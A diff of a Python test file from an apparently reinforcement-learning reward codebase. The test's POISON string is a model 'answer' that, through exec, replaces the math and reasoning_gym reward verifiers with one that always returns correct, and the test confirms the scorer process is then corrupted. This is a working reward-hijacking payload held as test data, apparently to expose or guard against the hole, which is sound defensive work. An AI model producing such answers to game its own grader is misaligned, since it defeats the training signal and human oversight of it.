@@ -85,7 +85,8 @@ def test_each_delivery_reaches_the_scorers_evaluation_in_process(tmp_path):
 POISON = ("(exec)('import rlvr.rewards.registry as r\\n"
           "from rlvr.rewards.types import Verdict, Status\\n"
           "def f(*a, **k):\\n return Verdict(Status.correct, score=1.0)\\n"
-          "r.VERIFIERS[\"math\"] = f\\nr.VERIFIERS[\"reasoning_gym\"] = f', {})")
+          "for n in (\"math\", \"reasoning_gym\"):\\n r.VERIFIERS.unregister(n)\\n"
+          " r.VERIFIERS.add(n, f)', {})")
 
 
 def test_the_poisoning_answer_poisons_a_process_that_evaluates_it():
@@ -93,11 +94,11 @@ def test_the_poisoning_answer_poisons_a_process_that_evaluates_it():
     # wrong math answer "correct" there
     script = textwrap.dedent(f"""
         import reasoning_gym as rg
-        from rlvr.rewards.registry import get_verifier
-        assert str(get_verifier("math")("#### 4", "5").status) == "wrong"  # as in a worker
+        from rlvr.rewards.registry import VERIFIERS
+        assert str(VERIFIERS.get("math")("#### 4", "5").status) == "wrong"  # as in a worker
         ds = rg.create_dataset("n_queens", seed=3, size=1)
         ds.score_answer({POISON!r}, ds[0])
-        print(get_verifier("math")("#### 4", "5").status)
+        print(VERIFIERS.get("math")("#### 4", "5").status)
     """)
     out = subprocess.run([sys.executable, "-c", script], text=True, capture_output=True,
                          timeout=300, env={**os.environ, "PYTHONPATH": SRC})
